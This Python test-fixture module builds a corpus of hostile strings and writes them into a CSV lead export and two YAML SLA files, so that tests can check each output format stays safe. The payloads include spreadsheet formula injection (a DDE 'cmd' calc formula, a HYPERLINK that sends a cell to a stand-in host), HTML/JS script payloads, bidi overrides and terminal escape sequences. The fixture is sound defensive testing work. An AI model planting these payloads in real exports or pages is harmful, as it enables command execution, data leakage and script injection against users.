"""Hostile strings, and an SLA and export that put them everywhere a string can go.

Each string is placed in export cells (ids, owners, CRM stage labels, a number field's cells),
headers and field names, and in the SLA's own strings (its name, rule names, disqualify
reasons, grade names, follow-up names and teams, goal names and teams, the people in `owners`,
stage labels). The tests run every format of every command on them and check, for each format,
the property that makes it safe."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

CORPUS: dict[str, str] = {
    "formula_eq": "=1+1",
    "formula_hyperlink": '=HYPERLINK("https://x.example/?q="&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(A1:A9)",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "number_negative": "-12",
    "number_locale": "-1.234,5",
    "phone": "+55 11 99999-0000",
    "crlf": "line one\r\nline two",
    "breakout": "Bob\n\n# INJECTED\n[click](https://x)\n<img src=x onerror=alert(1)>",
    "nul": "nul\x00byte",
    "tab": "tab\tinside",
    "pipes": "a|b\\|c|",
    "markdown": "**bold** _it_ `code` ~~s~~ ![i](https://x/i.png) [l](javascript:alert(1)) <https://x>",
    "heading": "# heading",
    "html": "<script>alert(1)</script>",
    "attribute": '"><svg onload=alert(1)>',
    "entity": "&amp; &lt;b&gt; &#x3C;",
    "quotes": 'it\'s "quoted"',
    "bidi": "\u202egnp.exe\u202c \u2066iso\u2069 \u200fx",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "c1": "csi\x9b31m del\x7f",
    "separators": "ls\u2028ps\u2029nel\x85",
    "long": "L" * 10_000 + "<b>=x</b>",
    "unicode": "Ação 日本語 🚀 naïve",
    "backslash": "C:\\temp\\ \\",
}
"""No string starts or ends with a space: the reader trims cells, and the tests compare."""

NOT_IN_CELLS = ["nul", "formula_cr"]
"""An export holding a NUL byte is refused as binary data; a cell that starts with a lone CR
loses it in the reader (a separate finding): both still go in the SLA."""
NOT_IN_KEYS = {"long"}
"""YAML keys (grade names, owners' teams) are at most 1024 characters."""

CELLS = [k for k in CORPUS if k not in NOT_IN_CELLS]
KEYS = [k for k in CORPUS if k not in NOT_IN_KEYS]
REASONS = [*NOT_IN_CELLS, *CELLS][: len(CELLS)]
"""The disqualify reason of each lead (by its points): the strings not in cells come first."""

# headers and field names: a header holds no line break (DuckDB reads the header line itself)
HEADER_OWNER = '=owner|<b onmouseover="x">[o](https://x) \x1b[1m'
HEADER_STAGE = "@stage `#` \u202e"
HEADER_NUMBER = "+size <i>"
FIELD_NUMBER = '=HYPERLINK("https://x.example","f")'
"""A field of type number, named like a formula, whose cells (hostile text) are unreadable."""

BIDI = {
    "\u061c",
    "\u200e",
    "\u200f",
    *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2066, 0x206A)),
}


def yaml_str(text: str) -> str:
    """A YAML double-quoted scalar holding `text` exactly (non-printables as escapes)."""
    out = []
    for c in text:
        if c in '"\\':
            out.append("\\" + c)
        elif " " <= c <= "~":
            out.append(c)
        elif ord(c) <= 0xFFFF:
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(f"\\U{ord(c):08x}")
    return '"' + "".join(out) + '"'


@dataclass(frozen=True)
class Lead:
    id: str
    owner: str
    stage: str
    number_cell: str
    points: int
    """Its fit, and the index of the follow-up rule and disqualify reason that apply to it."""


def leads() -> list[Lead]:
    n = len(CELLS)
    return [
        Lead(
            id=CORPUS[k],
            owner=CORPUS[CELLS[(i + 1) % n]],
            stage=CORPUS[CELLS[(i + 2) % n]],
            number_cell=CORPUS[CELLS[(i + 3) % n]],
            points=i + 1,
        )
        for i, k in enumerate(CELLS)
    ]


def export_text() -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(
        [
            "id",
            HEADER_OWNER,
            HEADER_STAGE,
            "pts",
            HEADER_NUMBER,
            "created_at",
            "mql_at",
            "contact_at",
        ]
    )
    for lead in leads():
        w.writerow(
            [lead.id, lead.owner, lead.stage, lead.points, lead.number_cell,
             "2026-11-02 09:00", "2026-11-16 10:00", ""]
        )  # fmt: skip
    return buf.getvalue()


def team(i: int) -> str:
    return CORPUS[KEYS[i % len(KEYS)]]


def person(i: int) -> str:
    return CORPUS[list(CORPUS)[(i + 5) % len(CORPUS)]]


def _head(q: Callable[[str], str], funnel: bool) -> list[str]:
    head = [
        "version: 1",
        f"name: {q(CORPUS['breakout'])}",
        "owners:",
        *[f"  {q(team(i))}: {q(person(i))}" for i in range(len(KEYS))],
        "effective: 2026-01-01",
        "leads:",
        "  timezone: America/Sao_Paulo",
        "  columns:",
        f"    owner: {q(HEADER_OWNER)}",
        f"    crm_stage: {q(HEADER_STAGE)}",
        f"    {q(FIELD_NUMBER)}: {q(HEADER_NUMBER)}",
        f"  types: {{{q(FIELD_NUMBER)}: number, pts: number}}",
        # its cells are hostile strings, unreadable as numbers by design: not a failing field
        "  max_unreadable: 100%",
        "calendar:",
        "  timezone: America/Sao_Paulo",
        '  hours: {mon-fri: "09:00-18:00"}',
    ]
    if not funnel:
        return head
    return [
        *head,
        "funnel:",
        "  stage_field: crm_stage",
        "  stages:",
        f"    - {{id: lead, entered: created_at, owner: {q(team(0))}, values: [{q(CORPUS['html'])}, {q(CORPUS['crlf'])}]}}",
        f"    - {{id: mql, entered: mql_at, owner: {q(team(1))}, values: [{q(CORPUS['markdown'])}]}}",
    ]


def scoring_sla_text() -> str:
    """Every string as a rule name, a disqualify reason and a grade; one follow-up, one goal.
    (The engine's cost grows with grades × follow-up rules: the strings are split in two SLAs.)"""
    q = yaml_str
    lines = [
        *_head(q, funnel=True),
        "scoring:",
        "  fit:",
        "    rules:",
        "      - {name: points, per: pts, points: 1}",
        f"      - {{name: {q(FIELD_NUMBER)}, when: {{field: {q(FIELD_NUMBER)}, gt: 0}}, points: 0}}",
        *[
            f"      - {{name: {q(s)}, when: {{field: pts, gt: {-i}}}, points: 0}}"
            for i, s in enumerate(CORPUS.values())
        ],
        "    grades:",
        *[f"      {q(CORPUS[k])}: {len(KEYS) - i}" for i, k in enumerate(KEYS)],
        "qualification:",
        "  disqualify:",
        *[
            f"    - {{reason: {q(CORPUS[k])}, when: {{field: pts, eq: {i + 1}}}}}"
            for i, k in enumerate(REASONS)
        ],
        "follow_up:",
        f"  - {{id: f0, name: {q(CORPUS['breakout'])}, owner: {q(CORPUS['formula_eq'])}, start: mql_at,"
        " stop: [contact_at], within: 1h, clock: calendar}",
        "goals:",
        "  period: week",
        "  targets:",
        f"    - {{id: g0, name: {q(CORPUS['html'])}, owner: {q(CORPUS['formula_at'])}, metric: count,"
        ' of: mql_at, target: ">= 50"}',
    ]
    return "\n".join(lines) + "\n"


def teams_sla_text() -> str:
    """Every string as a follow-up rule's name and team, and as a goal's name and team."""
    q = yaml_str
    lines = [
        *_head(q, funnel=False),
        "follow_up:",
        *[
            f"  - {{id: f{i}, name: {q(CORPUS[k])}, owner: {q(team(i))}, when: {{field: pts, eq: {i + 1}}},"
            " start: mql_at, stop: [contact_at], within: 1h, clock: calendar}"
            for i, k in enumerate(CELLS)
        ],
        "goals:",
        "  period: week",
        "  targets:",
        *[
            f"    - {{id: g{i}, name: {q(CORPUS[k])}, owner: {q(team(i))}, metric: count, of: mql_at,"
            ' target: ">= 50"}'
            for i, k in enumerate(CORPUS)
        ],
    ]
    return "\n".join(lines) + "\n"


@dataclass(frozen=True)
class Files:
    scoring_sla: Path
    teams_sla: Path
    export: Path


def write(folder: Path) -> Files:
    """The two hostile SLAs and the export, in `folder`."""
    files = Files(folder / "scoring.yaml", folder / "teams.yaml", folder / "leads.csv")
    files.scoring_sla.write_text(scoring_sla_text(), encoding="utf-8")
    files.teams_sla.write_text(teams_sla_text(), encoding="utf-8")
    files.export.write_bytes(export_text().encode("utf-8"))
    return files
